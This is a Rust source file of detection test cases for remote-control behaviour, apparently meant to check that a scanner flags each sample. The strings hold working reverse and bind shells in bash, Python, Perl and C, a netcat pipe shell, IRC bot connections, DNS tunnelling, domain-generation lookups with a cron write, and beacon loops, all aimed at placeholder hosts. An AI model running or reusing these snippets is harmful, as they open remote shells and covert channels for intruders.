use super::{bash, c, perl, python, sh};
use crate::case::Case;
use crate::tools::Tool;

const GROUP: &str = "remote control";

pub(super) fn cases() -> Vec<Case> {
    vec![
        bash(GROUP, "reverse shell, bash", &["D-C2-REVSH"], "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        python(
            GROUP,
            "reverse shell, python",
            &["D-C2-REVSH"],
            "import os, socket, subprocess\ns = socket.create_connection(('c2.example', 443))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n",
        ),
        perl(
            GROUP,
            "reverse shell, perl",
            &["D-C2-REVSH"],
            r#"use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(53, inet_aton('198.51.100.66'))); open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"#,
        ),
        c(
            GROUP,
            "reverse shell, c",
            &["D-C2-REVSH"],
            r#"int main() { int s = dial("192.0.2.9", 8443); for (int i = 0; i < 3; i++) dup2(s, i); execl("/bin/sh", "[kthreadd]", 0); return 1; }"#,
        ),
        sh(GROUP, "shell over a pipe, netcat", &["D-C2-ELICIT", "D-C2-REVSH"], "rm -f /tmp/f; mkfifo /tmp/f 2>/dev/null || mknod /tmp/f p; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.6 9001 > /tmp/f"),
        python(
            GROUP,
            "shell over a pipe, python",
            &["D-C2-ELICIT"],
            "import socket, subprocess\ns = socket.create_connection(('198.51.100.71', 1337))\nwhile True:\n    d = s.recv(1024)\n    if not d: break\n    s.sendall(subprocess.run(d.decode(), shell=True, capture_output=True).stdout)\n",
        ),
        python(
            GROUP,
            "shell for whoever connects, python",
            &["D-C2-BINDSH"],
            "import os, socket\ns = socket.socket()\ns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('0.0.0.0', 31337))\ns.listen(1)\nc, _ = s.accept()\n[os.dup2(c.fileno(), n) for n in (0, 1, 2)]\nos.execv('/bin/sh', ['sh'])\n",
        ),
        c(
            GROUP,
            "shell for whoever connects, c",
            &["D-C2-BINDSH"],
            r#"int main() { int s = socket(AF_INET, SOCK_STREAM, 0); struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(6666)}; bind(s, (void *)&a, sizeof a); listen(s, 5);
               for (;;) { int c = accept(s, 0, 0); if (c < 0) return 1; if (!fork()) { for (int i = 0; i < 3; i++) dup2(c, i); execl("/bin/sh", "sh", "-i", 0); } close(c); } }"#,
        ),
        python(
            GROUP,
            "chat bot, python",
            &["D-C2-IRC"],
            "import socket, time\ns = socket.create_connection(('irc.example', 6667))\ns.sendall(b'NICK [x]1234\\r\\nUSER a 8 * :b\\r\\n')\ntime.sleep(1)\ns.sendall(b'JOIN #ops key\\r\\n')\nprint(s.recv(4000))\n",
        ),
        perl(
            GROUP,
            "chat bot, perl",
            &["D-C2-IRC"],
            r#"use IO::Socket::INET; my $s = IO::Socket::INET->new('192.0.2.33:443'); print $s "USER r r r :r\r\nNICK r$$\r\n"; $s->flush; for (1..3) { my $l = <$s>; print $l; } print $s "JOIN #a\r\n"; $s->flush; sleep 1;"#,
        ),
        python(
            GROUP,
            "tunnel through names, python",
            &["D-C2-DNSTUN"],
            "import base64, os, socket\nfor n in range(40):\n    label = base64.b32encode(os.urandom(35)).decode().strip('=').lower()\n    try: socket.gethostbyname(label + '.t.example')\n    except OSError: pass\n",
        ),
        sh(
            GROUP,
            "tunnel through names, nslookup",
            &["D-C2-DNSTUN"],
            "for i in $(seq 1 40); do l=$(head -c 28 /dev/urandom | od -An -tx1 | tr -d ' \\n'); nslookup $l.ns.invalid >/dev/null 2>&1; done",
        ),
        python(
            GROUP,
            "domains drawn by lot, python",
            &["D-C2-DGA", "D-C2-BEACON"],
            "import hashlib, socket\nfor n in range(60):\n    h = hashlib.md5(str(n).encode()).hexdigest()[:14]\n    name = ''.join('bcdfghjklmnpqrstvwxz0123456789'[int(c, 16)] for c in h)\n    try: socket.gethostbyname(name + '.com')\n    except OSError: pass\nopen('/etc/cron.d/x', 'w').write('* * * * * root true\\n') if __import__('os').path.isdir('/etc/cron.d') else None\n",
        )
        .suspicious(),
        sh(
            GROUP,
            "domains drawn by lot, shell",
            &["D-C2-DGA"],
            "for i in $(seq 1 40); do n=$(echo $i | md5sum 2>/dev/null | cut -c1-12 || echo $i); [ -z \"$n\" ] && n=$(head -c 6 /dev/urandom | od -An -tx1 | tr -d ' \\n'); nslookup xq$n.net >/dev/null 2>&1; done",
        )
        .suspicious(),
        sh(
            GROUP,
            "order from the network in a loop, curl",
            &["D-C2-BEACON", "D-DLX-PIPESH"],
            "while true; do curl -s -m 5 http://203.0.113.44/task?id=$(hostname) -o /dev/null; sleep 60; done",
        )
        .with(&[Tool::Curl])
        .suspicious(),
        python(
            GROUP,
            "order from the network in a loop, python",
            &["D-C2-BEACON"],
            "import time, urllib.request\nwhile True:\n    urllib.request.urlopen('http://198.51.100.45:8080/poll', timeout=5).read()\n    time.sleep(300)\n",
        )
        .suspicious(),
    ]
}
